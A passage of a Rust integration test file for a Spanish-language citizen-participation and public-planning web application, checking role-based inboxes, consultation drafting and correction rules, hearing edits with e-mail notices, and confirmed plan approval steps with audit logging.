        .get("/admin/notificaciones/abc", Some(&approver))
        .await
        .status
        .is_client_error());
    // E-mail off, then on; the page says what happened.
    assert!(app.store.wants_email(4).await.unwrap());
    let off = app
        .post(
            "/admin/notificaciones/correo",
            Some(&approver),
            &[("correo", "no")],
        )
        .await;
    assert_eq!(off.status, StatusCode::SEE_OTHER);
    assert!(!app.store.wants_email(4).await.unwrap());
    let page = app
        .get(off.location.as_deref().unwrap(), Some(&approver))
        .await;
    assert!(
        page.body
            .contains("Ya no recibirá las notificaciones por correo"),
        "{}",
        page.body
    );
    assert!(page
        .body
        .contains("id=\"correo-no\" name=\"correo\" value=\"no\" checked"));
    app.post(
        "/admin/notificaciones/correo",
        Some(&approver),
        &[("correo", "si")],
    )
    .await;
    assert!(app.store.wants_email(4).await.unwrap());
    // Marking all read.
    app.to_status(&[Transition::Review]).await;
    assert_eq!(app.store.unread_notifications(4).await.unwrap(), 1);
    let all = app
        .post("/admin/notificaciones/leidas", Some(&approver), &[])
        .await;
    assert_eq!(
        all.location.as_deref(),
        Some("/admin/notificaciones?hecho=leidas")
    );
    assert_eq!(app.store.unread_notifications(4).await.unwrap(), 0);
}

/// The items of a "Mis pendientes" page: (title, link), and the count its navigation shows.
fn inbox_items(page: &Reply) -> (Vec<(String, String)>, Option<usize>) {
    assert_eq!(page.status, StatusCode::OK, "{}", page.body);
    let body = &page.body;
    let count = body
        .split("Mis pendientes (")
        .nth(1)
        .and_then(|rest| rest.split(')').next().and_then(|n| n.parse::<usize>().ok()));
    let mut items = Vec::new();
    if let Some(list) = body.split("<ol class=\"inbox\">").nth(1) {
        let list = list.split("</ol>").next().unwrap();
        for li in list.split("<li>").skip(1) {
            let title = li
                .split("<h2>")
                .nth(1)
                .unwrap()
                .split("</h2>")
                .next()
                .unwrap();
            let link = li
                .split("<a class=\"button\" href=\"")
                .nth(1)
                .unwrap()
                .split('"')
                .next()
                .unwrap();
            items.push((title.to_string(), link.replace("&#x2f;", "/")));
        }
    }
    (items, count)
}

/// `name`'s home page: its items and body. Every item links to a page its user can
/// open, and the count in the navigation is the number of items.
async fn visit_home(
    app: &TestApp,
    cookies: &[(&str, String)],
    name: &str,
) -> (Vec<(String, String)>, String) {
    let c = &cookies.iter().find(|(n, _)| *n == name).unwrap().1;
    let page = app.get("/admin/", Some(c)).await;
    let (items, count) = inbox_items(&page);
    assert_eq!(count, Some(items.len()), "{name}: {items:?}");
    for (title, link) in &items {
        let path = link.split('#').next().unwrap();
        let r = app.get(path, Some(c)).await;
        assert_eq!(r.status, StatusCode::OK, "{name}: «{title}» → {link}");
    }
    (items, page.body)
}

/// Issue 14, item 1: each role's home (where sign-in lands) lists what waits for it,
/// each item linking to a page it can use; it never shows another role's items nor the
/// navigation entries the role cannot use; the count in the navigation is the list's.
async fn each_role_finds_what_waits_for_it_at_home(db: TestDatabase) {
    let app = TestApp::new(db).await;
    // Signing in without a page to go back to lands on "Mis pendientes".
    let r = app
        .post(
            "/ingresar",
            None,
            &[("usuario", "admin"), ("clave", PASSWORD)],
        )
        .await;
    assert_eq!(r.location.as_deref(), Some("/admin"));
    let cookies: Vec<(&str, String)> = {
        let mut v = Vec::new();
        for name in ["admin", "reporter", "auditor", "approver"] {
            v.push((name, app.login(name).await));
        }
        v
    };
    let cookie = |name: &str| {
        cookies
            .iter()
            .find(|(n, _)| *n == name)
            .map(|(_, c)| c.clone())
            .unwrap()
    };
    let home = |name: &'static str| visit_home(&app, &cookies, name);
    let has = |items: &[(String, String)], title: &str, link: &str| {
        items.iter().any(|(t, l)| t.contains(title) && l == link)
    };

    // A draft with findings: only the planning office is asked to settle them.
    let (admin, admin_page) = home("admin").await;
    assert!(
        has(
            &admin,
            "por resolver antes de consolidar",
            "/admin/planes/1/cobertura"
        ),
        "{admin:?}"
    );
    let (approver, approver_page) = home("approver").await;
    assert!(approver.is_empty(), "{approver:?}");
    assert!(approver_page.contains("No tiene nada pendiente"));
    assert!(approver_page.contains("Mis pendientes (0)"));
    // The navigation is grouped and shows only what each role can use.
    for group in [
        "Formulación",
        "Seguimiento",
        "Participación",
        "Reglas",
        "Administración",
    ] {
        assert!(
            admin_page.contains(&format!("<summary>{group}</summary>")),
            "{group}"
        );
    }
    assert!(admin_page.contains("href=\"/admin/usuarios\""));
    assert!(admin_page.contains("href=\"/admin/planes/importar\""));
    let (_, reporter_page) = home("reporter").await;
    let (_, auditor_page) = home("auditor").await;
    for page in [&reporter_page, &approver_page] {
        assert!(!page.contains("<summary>Administración</summary>"));
        assert!(!page.contains("href=\"/admin/usuarios\""));
        assert!(!page.contains("href=\"/admin/auditoria\""));
        assert!(!page.contains("href=\"/admin/planes/importar\""));
        assert!(!page.contains("href=\"/admin/planes/nuevo\""));
    }
    assert!(auditor_page.contains("href=\"/admin/auditoria\""));
    assert!(!auditor_page.contains("href=\"/admin/usuarios\""));
    assert!(auditor_page.contains("aria-label=\"Su cuenta\""));

    // Reviewed: the approver is asked to approve, nobody else.
    app.to_status(&[Transition::Consolidate, Transition::Review])
        .await;
    let (approver, _) = home("approver").await;
    assert_eq!(
        approver
            .iter()
            .map(|(t, l)| (t.contains("espera su aprobación"), l.as_str()))
            .collect::<Vec<_>>(),
        [(true, "/admin/planes/1#estado")]
    );
    let (admin, _) = home("admin").await;
    assert!(admin
        .iter()
        .all(|(t, _)| !t.contains("espera su aprobación")));
    // The count shows on every staff page.
    let plans = app.get("/admin/planes", Some(&cookie("approver"))).await;
    assert!(plans.body.contains("Mis pendientes (1)"));

    // Approved, then returned to draft: the planning office corrects it.
    app.to_status(&[Transition::Approve]).await;
    let (admin, _) = home("admin").await;
    assert!(has(
        &admin,
        "aprobado, falta publicarlo",
        "/admin/planes/1#estado"
    ));
    app.store
        .transition(PlanId(1), Transition::ReturnToDraft, None, &Actor::system())
        .await
        .unwrap();
    let (admin, _) = home("admin").await;
    assert!(
        has(&admin, "lo devolvió a borrador", "/admin/planes/1"),
        "{admin:?}"
    );
    assert!(home("approver").await.0.is_empty());

    // Published: ARCOM reports, internal control returns it with an observation.
    app.to_status(&[
        Transition::Consolidate,
        Transition::Review,
        Transition::Approve,
        Transition::Publish,
    ])
    .await;
    let (admin, _) = home("admin").await;
    assert!(admin
        .iter()
        .all(|(_, l)| !l.starts_with("/admin/planes/1#")));
    let base = "/admin/planes/1/seguimiento/actividades/13";
    let sent = app
        .post_files(
            &format!("{base}/avance"),
            Some(&cookie("reporter")),
            &[
                ("periodo", "1"),
                ("avance", "40"),
                ("descripcion", "TikTok live con afiliados"),
            ],
            &[],
        )
        .await;
    assert_eq!(sent.status, StatusCode::SEE_OTHER, "{}", sent.body);
    let (auditor, _) = home("auditor").await;
    assert!(
        has(
            &auditor,
            "Actividad 13 (ARCOM): reporte del Cuatrimestre 1",
            &format!("{base}#revisar")
        ),
        "{auditor:?}"
    );
    // Every period of 2025 has ended its reporting term: each can be closed.
    assert_eq!(
        auditor
            .iter()
            .filter(|(t, l)| t.contains("puede cerrarse")
                && l == "/admin/planes/1/seguimiento#periodos")
            .count(),
        3
    );
    let review = |decision: &'static str, obs: &'static str| {
        vec![
            ("periodo", "1"),
            ("decision", decision),
            ("avance_verificado", "35"),
            ("suficiencia", "parcial"),
            ("observaciones", obs),
        ]
    };
    let back = app
        .post(
            &format!("{base}/revision"),
            Some(&cookie("auditor")),
            &review("devolver", "Falta el enlace de la transmisión"),
        )
        .await;
    assert_eq!(back.status, StatusCode::SEE_OTHER, "{}", back.body);
    let (reporter, reporter_page) = home("reporter").await;
    assert!(
        has(
            &reporter,
            "Actividad 13: control interno devolvió el reporte",
            &format!("{base}#reportar")
        ),
        "{reporter:?}"
    );
    assert!(reporter_page
        .contains("Observaciones de control interno: Falta el enlace de la transmisión"));
    assert!(
        reporter.iter().any(|(t, _)| t.ends_with(": vencida")),
        "late activities of ARCOM: {reporter:?}"
    );
    let (auditor, _) = home("auditor").await;
    assert!(auditor.iter().all(|(t, _)| !t.contains("por revisar")));
    // Sent again and accepted: the planning office sees it among this week's.
    let again = app
        .post_files(
            &format!("{base}/avance"),
            Some(&cookie("reporter")),
            &[
                ("periodo", "1"),
                ("avance", "45"),
                ("descripcion", "TikTok live; enlace incluido"),
            ],
            &[],
        )
        .await;
    assert_eq!(again.status, StatusCode::SEE_OTHER, "{}", again.body);
    let ok = app
        .post(
            &format!("{base}/revision"),
            Some(&cookie("auditor")),
            &review("aceptar", "Verificado"),
        )
        .await;
    assert_eq!(ok.status, StatusCode::SEE_OTHER, "{}", ok.body);
    let (admin, _) = home("admin").await;
    assert!(
        has(
            &admin,
            "Actividad 13: control interno aceptó el reporte del Cuatrimestre 1",
            base
        ),
        "{admin:?}"
    );
    let (reporter, _) = home("reporter").await;
    assert!(reporter.iter().all(|(t, _)| !t.contains("devolvió")));

    // Citizens: a suggestion due today, a hearing question past its term, a comment to
    // moderate: only the planning office answers them.
    participation_fixtures(&app).await;
    let today = participa_app::dates::today();
    let code = participa_domain::participation::TrackingCode::from_random([9; 8]);
    let s = participa_domain::participation::NewSuggestion::check(
        "vivienda",
        "Más ferias de vivienda en Cali",
    )
    .unwrap();
    app.store
        .create_suggestion(&code, &s, None, today)
        .await
        .unwrap();
    let id = app
        .store
        .suggestion_by_code(&code)
        .await
        .unwrap()
        .unwrap()
        .id;
    let (admin, admin_page) = home("admin").await;
    assert!(
        has(
            &admin,
            &format!("Sugerencia {}", code.as_str()),
            &format!("/admin/sugerencias/{id}")
        ),
        "{admin:?}"
    );
    assert!(admin_page.contains("Vence pronto"));
    assert!(has(
        &admin,
        "Pregunta para la audiencia «Audiencia pública de rendición de cuentas 2025»",
        "/admin/audiencias/1#pregunta-1"
    ));
    assert!(admin_page.contains("Vencido"));
    assert!(has(
        &admin,
        "Foro «Foro previo»: 1 comentario espera moderación",
        "/admin/consultas/2/moderacion"
    ));
    // Newest first.
    let dates: Vec<&str> = admin_page
        .split("desde el ")
        .skip(1)
        .map(|d| d.split('<').next().unwrap())
        .collect();
    assert_eq!(dates.len(), admin.len());
    for name in ["reporter", "auditor", "approver"] {
        let (items, _) = home(name).await;
        for (_, link) in &items {
            for foreign in [
                "/cobertura",
                "/moderacion",
                "/admin/sugerencias",
                "/admin/audiencias",
            ] {
                assert!(!link.contains(foreign), "{name} sees {link}");
            }
        }
        if name != "auditor" {
            assert!(
                items.iter().all(|(_, l)| !l.ends_with("#revisar")),
                "{name}"
            );
        }
        if name != "reporter" {
            assert!(
                items.iter().all(|(_, l)| !l.ends_with("#reportar")),
                "{name}"
            );
        }
    }
    // The follow-up entry of the navigation goes to the published plan's follow-up,
    // an office's own activities for a responsible office.
    let r = app
        .get("/admin/seguimiento", Some(&cookie("reporter")))
        .await;
    assert_eq!(
        r.location.as_deref(),
        Some("/admin/planes/1/seguimiento?dependencia=ARCOM")
    );
    let r = app
        .get("/admin/seguimiento", Some(&cookie("auditor")))
        .await;
    assert_eq!(r.location.as_deref(), Some("/admin/planes/1/seguimiento"));
}

/// Issue 14, item 6: a consultation is built as a draft nobody outside sees, previewed
/// in the staff frame, corrected freely until the first answer (questions edited,
/// reordered, deleted after a confirmation, conditions always pointing back), opened
/// now by staff; after the first answer only wording is fixed, each fix in a visible
/// history and the audit log. Scales carry their labelled ends to citizens and results.
async fn consultation_builder_drafts_and_corrections(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let c = Some(admin.as_str());
    let today = participa_app::dates::today();
    let opens = (today + chrono::Duration::days(5)).to_string();
    let closes = (today + chrono::Duration::days(30)).to_string();
    let created = app
        .post(
            "/admin/consultas",
            c,
            &[
                ("titulo", "Encuesta de vivienda en borrador"),
                ("abre", &opens),
                ("cierra", &closes),
            ],
        )
        .await;
    assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
    let admin_path = created.location.unwrap();
    let id = admin_path.rsplit('/').next().unwrap().to_string();
    let public = format!("/consultas/{id}");
    // A draft: 404 to the public everywhere, not on the portal, listed for staff.
    assert_eq!(app.get(&public, None).await.status, StatusCode::NOT_FOUND);
    assert_eq!(
        app.get(&format!("{public}/resultados"), None).await.status,
        StatusCode::NOT_FOUND
    );
    assert_eq!(
        post_from(
            &app,
            "10.9.0.1",
            &format!("{public}/respuestas"),
            &[("p1", "Sí")]
        )
        .await
        .status,
        StatusCode::NOT_FOUND
    );
    assert!(!app
        .get("/", None)
        .await
        .body
        .contains("Encuesta de vivienda en borrador"));
    let list = app.get("/admin/consultas", c).await.body;
    assert!(list.contains("Encuesta de vivienda en borrador"), "{list}");
    assert!(list.contains("<strong>Borrador</strong>"), "{list}");
    // Questions: a choice, a scale with its ends shown if the choice is «Sí», a text.
    for fields in [
        vec![
            ("texto", "¿Usó el subsidio?"),
            ("tipo", "unica"),
            ("opciones", "Sí\nNo"),
            ("obligatoria", "si"),
        ],
        vec![
            ("texto", "¿Qué tan claro fue el trámite?"),
            ("tipo", "escala"),
            ("extremo_bajo", "Nada claro"),
            ("extremo_alto", "Muy claro"),
            ("condicion", "1:Sí"),
        ],
        vec![("texto", "¿Qué mejoraría?"), ("tipo", "texto")],
    ] {
        let r = app
            .post(&format!("{admin_path}/preguntas"), c, &fields)
            .await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    }
    // A scale with one end only is refused next to its field, what was typed kept.
    let bad = app
        .post(
            &format!("{admin_path}/preguntas"),
            c,
            &[
                ("texto", "¿Otra escala?"),
                ("tipo", "escala"),
                ("extremo_bajo", "Nada"),
                ("extremo_alto", ""),
            ],
        )
        .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        bad.body.contains("id=\"extremo_bajo-error\""),
        "{}",
        bad.body
    );
    assert!(bad.body.contains("value=\"¿Otra escala?\""));
    // The preview: staff frame, a clear banner, the way back, the scale's ends.
    let preview = app.get(&format!("{admin_path}/vista-previa"), c).await;
    assert_eq!(preview.status, StatusCode::OK);
    assert!(preview.body.contains("<strong>Vista previa</strong>"));
    assert!(preview.body.contains(&format!("href=\"{admin_path}\"")));
    assert!(preview.body.contains("1 = Nada claro"), "{}", preview.body);
    assert!(preview.body.contains("5 = Muy claro"));
    // Reordering that breaks a condition is refused with a clear message.
    let refused = app
        .post(&format!("{admin_path}/preguntas/2/mover"), c, &[("a", "1")])
        .await;
    assert_eq!(refused.status, StatusCode::CONFLICT);
    assert!(
        refused
            .body
            .contains("La pregunta 2 se muestra según la respuesta a la pregunta 1"),
        "{}",
        refused.body
    );
    let moved = app
        .post(&format!("{admin_path}/preguntas/3/mover"), c, &[("a", "1")])
        .await;
    assert_eq!(moved.status, StatusCode::SEE_OTHER);
    let page = app.get(&format!("{admin_path}?hecho=movida"), c).await.body;
    assert!(page.contains("Se cambió el orden de las preguntas."));
    let at = |text: &str| page.find(text).unwrap();
    assert!(at("¿Qué mejoraría?") < at("¿Usó el subsidio?"));
    assert!(
        page.contains("si la pregunta 2 = «Sí»"),
        "the condition follows its question"
    );
    // An edit that removes the option a later question depends on is refused, kept.
    let form = app.get(&format!("{admin_path}/preguntas/2"), c).await;
    assert!(form.body.contains("value=\"¿Usó el subsidio?\""));
    let edit = app
        .post(
            &format!("{admin_path}/preguntas/2"),
            c,
            &[
                ("texto", "¿Usó el subsidio de vivienda?"),
                ("tipo", "unica"),
                ("opciones", "Sí, una vez\nNo"),
            ],
        )
        .await;
    assert_eq!(edit.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        edit.body.contains("se muestra cuando se responde «Sí»"),
        "{}",
        edit.body
    );
    assert!(edit.body.contains("Sí, una vez"));
    let edit = app
        .post(
            &format!("{admin_path}/preguntas/2"),
            c,
            &[
                ("texto", "¿Usó el subsidio de vivienda?"),
                ("tipo", "unica"),
                ("opciones", "Sí\nNo\nNo sabe"),
                ("obligatoria", "si"),
            ],
        )
        .await;
    assert_eq!(edit.status, StatusCode::SEE_OTHER, "{}", edit.body);
    // Deleting asks first; a question others depend on cannot be deleted.
    let ask = app
        .get(&format!("{admin_path}/preguntas/2/eliminar"), c)
        .await;
    assert!(ask.body.contains("No se puede eliminar"), "{}", ask.body);
    assert!(!ask.body.contains("Sí, eliminar"));
    let ask = app
        .get(&format!("{admin_path}/preguntas/1/eliminar"), c)
        .await;
    assert!(
        ask.body.contains("Sí, eliminar la pregunta 1"),
        "{}",
        ask.body
    );
    assert!(ask.body.contains("no se podrá recuperar"));
    assert_eq!(
        app.get(&admin_path, c)
            .await
            .body
            .matches("<li id=\"pregunta-")
            .count(),
        3,
        "nothing deleted by asking"
    );
    let deleted = app
        .post(&format!("{admin_path}/preguntas/1/eliminar"), c, &[])
        .await;
    assert_eq!(deleted.status, StatusCode::SEE_OTHER);
    let page = app.get(&admin_path, c).await.body;
    assert!(!page.contains("¿Qué mejoraría?"));
    assert!(page.contains("si la pregunta 1 = «Sí»"));
    // The consultation's data, dates too, before the first answer.
    let data = app
        .post(
            &format!("{admin_path}/editar"),
            c,
            &[
                ("titulo", "Encuesta de vivienda"),
                ("descripcion", "Díganos"),
                ("abre", &opens),
                ("cierra", &closes),
                ("actividad", ""),
            ],
        )
        .await;
    assert_eq!(data.status, StatusCode::SEE_OTHER, "{}", data.body);
    // Staff open it now: citizens answer it, with the scale's ends in sight.
    let open = app.post(&format!("{admin_path}/abrir"), c, &[]).await;
    assert_eq!(open.status, StatusCode::SEE_OTHER, "{}", open.body);
    let citizen = app.get(&public, None).await;
    assert_eq!(citizen.status, StatusCode::OK);
    assert!(
        citizen.body.contains("1 = Nada claro … 5 = Muy claro"),
        "{}",
        citizen.body
    );
    assert!(citizen.body.contains("Enviar mis respuestas"));
    assert!(app
        .get("/", None)
        .await
        .body
        .contains("Encuesta de vivienda"));
    let answered = post_from(
        &app,
        "10.9.0.2",
        &format!("{public}/respuestas"),
        &[("p1", "Sí"), ("p2", "5")],
    )
    .await;
    assert_eq!(answered.status, StatusCode::SEE_OTHER, "{}", answered.body);
    // After the first answer: wording only.
    let page = app.get(&admin_path, c).await.body;
    assert!(page.contains("Corregir la redacción"));
    assert!(
        !page.contains("/eliminar\""),
        "no delete after the first answer"
    );
    assert!(
        page.contains("5 = Muy claro"),
        "the results read the scale's ends"
    );
    assert_eq!(
        app.post(&format!("{admin_path}/preguntas/1/eliminar"), c, &[])
            .await
            .status,
        StatusCode::CONFLICT
    );
    let late = app
        .post(
            &format!("{admin_path}/preguntas"),
            c,
            &[("texto", "¿Una más?"), ("tipo", "texto")],
        )
        .await;
    assert_eq!(late.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        late.body.contains("solo se puede corregir la redacción"),
        "{}",
        late.body
    );
    let fix = app
        .post(
            &format!("{admin_path}/preguntas/1"),
            c,
            &[
                ("texto", "¿Ha usado el subsidio de vivienda?"),
                ("tipo", "texto"),
                ("opciones", ""),
            ],
        )
        .await;
    assert_eq!(fix.status, StatusCode::SEE_OTHER, "{}", fix.body);
    let dates = app
        .post(
            &format!("{admin_path}/editar"),
            c,
            &[
                ("titulo", "Encuesta de vivienda 2026"),
                ("descripcion", "Díganos"),
                ("abre", &opens),
                ("cierra", &closes),
            ],
        )
        .await;
    assert_eq!(dates.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        dates
            .body
            .contains("las fechas y la actividad se quedan como estaban"),
        "{}",
        dates.body
    );
    let title = app
        .post(
            &format!("{admin_path}/editar"),
            c,
            &[
                ("titulo", "Encuesta de vivienda 2026"),
                ("descripcion", "Díganos"),
            ],
        )
        .await;
    assert_eq!(title.status, StatusCode::SEE_OTHER, "{}", title.body);
    let page = app.get(&admin_path, c).await.body;
    assert!(page.contains("Historial de correcciones"));
    assert!(
        page.contains("antes «Encuesta de vivienda»; ahora «Encuesta de vivienda 2026»"),
        "{page}"
    );
    assert!(page.contains("¿Ha usado el subsidio de vivienda?"));
    assert!(
        page.contains("Selección única"),
        "the kind stayed: only the wording changed"
    );
    let audit = app.get("/admin/auditoria", c).await.body;
    for label in [
        "Cambió el orden de las preguntas de una consulta",
        "Eliminó una pregunta de una consulta",
        "Modificó una pregunta de una consulta",
        "Modificó los datos de una consulta",
        "Abrió una consulta",
    ] {
        assert!(audit.contains(label), "{label}");
    }
    // Only the planning office builds.
    let auditor = app.login("auditor").await;
    assert_eq!(
        app.post(
            &format!("{admin_path}/preguntas/1/mover"),
            Some(&auditor),
            &[("a", "1")]
        )
        .await
        .status,
        StatusCode::FORBIDDEN
    );
}

/// Issue 14, item 6: a hearing is edited (date, place, stream, report) with the change
/// in the audit log; a new date is told to the registrants who left an e-mail.
async fn an_edited_hearing_tells_its_registrants(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let c = Some(admin.as_str());
    let day = (participa_app::dates::today() + chrono::Duration::days(20)).to_string();
    let fields = |date: &str, place: &str| -> Vec<(&'static str, String)> {
        vec![
            ("titulo", "Audiencia pública 2026".into()),
            ("fecha", date.into()),
            ("hora", "10:00".into()),
            ("lugar", place.into()),
            ("transmision", "https://video.example.org/audiencia".into()),
            ("informe", "".into()),
            ("informe_fecha", "".into()),
            ("convocatoria", "Sitio web".into()),
            ("actividad", "".into()),
        ]
    };
    let owned = |f: &Vec<(&'static str, String)>| -> Vec<(&'static str, String)> { f.clone() };
    let send = |path: String, f: Vec<(&'static str, String)>| {
        let app = &app;
        async move {
            let f: Vec<(&str, &str)> = f.iter().map(|(k, v)| (*k, v.as_str())).collect();
            app.post(&path, c, &f).await
        }
    };
    let created = send("/admin/audiencias".into(), owned(&fields(&day, "Bogotá"))).await;
    assert_eq!(created.status, StatusCode::SEE_OTHER, "{}", created.body);
    let admin_path = created.location.unwrap();
    let id = admin_path.rsplit('/').next().unwrap().to_string();
    for (ip, name, email) in [
        ("10.8.0.1", "Ana Pérez", "ana@correo.co"),
        ("10.8.0.2", "Luis Gómez", ""),
    ] {
        let r = post_from(
            &app,
            ip,
            &format!("/audiencias/{id}/inscripcion"),
            &[
                ("nombre", name),
                ("correo", email),
                ("grupo", "afiliados"),
                ("autorizacion", "si"),
            ],
        )
        .await;
        assert_eq!(r.status, StatusCode::SEE_OTHER, "{}", r.body);
    }
    let form = app.get(&format!("{admin_path}/editar"), c).await;
    assert_eq!(form.status, StatusCode::OK);
    assert!(form.body.contains("value=\"Bogotá\""));
    assert!(
        form.body.contains("se avisa por correo a 1 inscrito(s)"),
        "{}",
        form.body
    );
    // A refused edit keeps what was typed.
    let bad = send(
        format!("{admin_path}/editar"),
        owned(&fields("2026-02-30", "Cali")),
    )
    .await;
    assert_eq!(bad.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(bad.body.contains("value=\"Cali\""));
    // The place changes: nobody is told.
    let moved = send(
        format!("{admin_path}/editar"),
        owned(&fields(&day, "Medellín")),
    )
    .await;
    assert_eq!(
        moved.location.as_deref(),
        Some(&*format!("{admin_path}?cambiada=0"))
    );
    // The date changes: the registrant with an e-mail is told.
    let later = (participa_app::dates::today() + chrono::Duration::days(27)).to_string();
    let moved = send(
        format!("{admin_path}/editar"),
        owned(&fields(&later, "Medellín")),
    )
    .await;
    assert_eq!(moved.status, StatusCode::SEE_OTHER, "{}", moved.body);
    let page = app.get(&moved.location.unwrap(), c).await.body;
    assert!(
        page.contains("se avisó de la nueva fecha a 1 inscrito"),
        "{page}"
    );
    assert!(page.contains("Medellín"));
    let new_day =
        participa_app::dates::fecha(participa_app::dates::today() + chrono::Duration::days(27));
    assert!(app
        .get(&format!("/audiencias/{id}"), None)
        .await
        .body
        .contains(&new_day));
    let audit = app.get("/admin/auditoria", c).await.body;
    // The entries, not the action filter's list of every kind.
    let entries = audit.split("<table").nth(1).unwrap_or_default();
    assert_eq!(
        entries.matches("Modificó una audiencia pública").count(),
        2,
        "{audit}"
    );
    assert!(audit.contains("nueva fecha avisada a 1 inscrito(s)"));
    // One e-mail waits in the outbox, for the registrant who left one.
    let outbox: Vec<String> = app
        .store
        .outbox_states()
        .await
        .unwrap()
        .into_iter()
        .map(|(_, kind, _, _)| kind)
        .filter(|k| k == "audiencia_cambiada")
        .collect();
    assert_eq!(outbox.len(), 1, "{outbox:?}");
    let auditor = app.login("auditor").await;
    assert_eq!(
        app.get(&format!("{admin_path}/editar"), Some(&auditor))
            .await
            .status,
        StatusCode::FORBIDDEN
    );
}

/// Posts a confirmed plan step as `cookie` with extra fields.
async fn confirmed_step(app: &TestApp, cookie: &str, fields: &[(&str, &str)]) -> Reply {
    let mut form = fields.to_vec();
    form.push(("confirmar", "si"));
    app.post("/admin/planes/1/estado", Some(cookie), &form)
        .await
}

/// Issue 14, items 3 and 5: every plan step says what it will do and waits for its
/// confirmation; a return needs its reason (the approver's observations), kept in the
/// history and the audit log; the acta date lies between the consolidation and today;
/// the approval fills the «Aprobó» signature (name, cargo, acta) on the staff page, the
/// public page and the PDF; each step ends with a message saying exactly what happened.
async fn plan_steps_are_confirmed_and_say_what_happened(db: TestDatabase) {
    let app = TestApp::new(db).await;
    let admin = app.login("admin").await;
    let approver = app.login("approver").await;
    testing::accept_all_findings(&app.store, PlanId(1)).await;
    let status = || async { app.store.plan_state(PlanId(1)).await.unwrap().status };
    use participa_domain::PlanStatus;

    for step in ["consolidar", "revisar"] {
        let r = confirmed_step(&app, &admin, &[("accion", step)]).await;
        assert_eq!(r.location.as_deref(), Some("/admin/planes/1"), "{}", r.body);
    }
    let reviewed = app.get("/admin/planes/1", Some(&admin)).await;
    assert!(reviewed
        .body
        .contains("Versión 1 marcada como revisada: espera la aprobación del CIGD."));
    // The message is shown once.
    let again = app.get("/admin/planes/1", Some(&admin)).await;
    assert!(!again.body.contains("marcada como revisada"));

    // The approver sends it back with observations instead of approving.
    let page = app.get("/admin/planes/1", Some(&approver)).await;
    assert!(
        page.body.contains("Devolver con observaciones"),
        "{}",
        page.body
    );
    let asked = app
        .post(
            "/admin/planes/1/estado",
            Some(&approver),
            &[("accion", "devolver")],
        )
        .await;
    assert_eq!(asked.status, StatusCode::OK);
    assert!(asked.body.contains("vuelve a borrador sin aprobarse"));
    assert!(asked
        .body
        .contains("Observaciones para la Oficina de Planeación"));
    let no_reason = confirmed_step(
        &app,
        &approver,
        &[
            ("accion", "devolver"),
            ("version", "1"),
            ("estado", "reviewed"),
        ],
    )
    .await;
    assert_eq!(no_reason.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(no_reason
        .body
        .contains("Escriba el motivo para devolver el plan"));
    assert_eq!(status().await, PlanStatus::Reviewed);
    let why = "Falta el cronograma de la audiencia pública";
    let back = confirmed_step(
        &app,
        &approver,
        &[
            ("accion", "devolver"),
            ("version", "1"),
            ("estado", "reviewed"),
            ("motivo", why),
        ],
    )
    .await;
    assert_eq!(
        back.location.as_deref(),
        Some("/admin/planes/1"),
        "{}",
        back.body
    );
    assert_eq!(status().await, PlanStatus::Draft);
    // The approver cannot return a plan that does not wait for it.
    let plan_page = app.get("/admin/planes/1", Some(&admin)).await;
    assert!(plan_page
        .body
        .contains("Devuelto a borrador desde «Revisado» por Usuario approver"));
    assert!(plan_page.body.contains(why));
    let versions = app.get("/admin/planes/1/versiones", Some(&admin)).await;
    assert!(versions.body.contains(why), "{}", versions.body);
    let audit = app.get("/admin/auditoria?plan=1", Some(&admin)).await;
    assert!(audit.body.contains(why));

    // Again up to review; the acta date cannot be in the future nor before consolidating.
    for step in ["consolidar", "revisar"] {
        confirmed_step(&app, &admin, &[("accion", step)]).await;
    }
    assert_eq!(status().await, PlanStatus::Reviewed);
    let today = participa_app::dates::today();
    let tomorrow = (today + chrono::Duration::days(1)).to_string();
    let yesterday = (today - chrono::Duration::days(1)).to_string();
    let future = confirmed_step(
        &app,
        &approver,
        &[
            ("accion", "aprobar"),
            ("acta_numero", "12"),
            ("acta_fecha", &tomorrow),
        ],
    )
    .await;
    assert_eq!(future.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(
        future.body.contains("no puede ser posterior a hoy"),
        "{}",
        future.body
    );
    assert!(
        future.body.contains("value=\"12\""),
        "the acta number typed stays"
    );
    let early = confirmed_step(
        &app,
        &approver,
        &[
            ("accion", "aprobar"),
            ("acta_numero", "12"),
            ("acta_fecha", &yesterday),
        ],
    )
    .await;
    assert_eq!(early.status, StatusCode::UNPROCESSABLE_ENTITY);
    assert!(early.body.contains("anterior a la consolidación"));
    assert_eq!(status().await, PlanStatus::Reviewed);
    let today_text = today.to_string();
    let approve = [
        ("accion", "aprobar"),
        ("acta_numero", "12"),
        ("acta_fecha", today_text.as_str()),
        ("version", "1"),
        ("estado", "reviewed"),
    ];
    let approved = confirmed_step(&app, &approver, &approve).await;
    assert_eq!(
        approved.location.as_deref(),
        Some("/admin/planes/1"),
        "{}",
        approved.body
    );
    let page = app.get("/admin/planes/1", Some(&approver)).await;
    let acta = format!(
        "Acta del CIGD n.º 12 del {}",
        participa_app::dates::fecha(today)
    );
    assert!(page.body.contains(&format!(
        "role=\"status\">Versión 1 aprobada por el CIGD con el acta n.º 12 del {}",
        participa_app::dates::fecha(today)
    )));
    assert!(!page.body.contains("en revisión"));
    assert!(
        page.body.contains(&format!(
            "Usuario approver, Cargo de Usuario approver · {acta}"
        )),
        "{}",
        page.body
    );
    // The same confirmation sent twice does nothing and says why.
    let twice = confirmed_step(&app, &approver, &approve).await;
    assert_eq!(twice.location.as_deref(), Some("/admin/planes/1"));
    let page = app.get("/admin/planes/1", Some(&approver)).await;
    assert!(
        page.body.contains("El plan cambió mientras confirmaba"),
        "{}",
        page.body
    );
    assert_eq!(status().await, PlanStatus::Approved);

    // Published: the public page and the PDF carry the signature.
    let asked = app
        .post(
            "/admin/planes/1/estado",
            Some(&admin),
            &[("accion", "publicar")],
        )
        .await;
    assert!(asked.body.contains("la ciudadanía la verá"));
    assert_eq!(status().await, PlanStatus::Approved);
